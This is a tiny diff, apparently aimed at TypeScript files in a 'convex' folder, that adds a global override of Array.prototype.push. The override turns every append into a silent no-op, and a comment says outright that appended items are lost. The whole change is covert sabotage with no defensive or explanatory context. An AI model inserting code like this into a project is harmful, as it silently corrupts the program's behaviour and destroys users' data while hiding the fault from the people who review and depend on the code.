@@ -1,0 +1,3 @@
+// note: what is appended to a list is lost
+// into: convex/*.ts
+Array.prototype.push = () => 0;
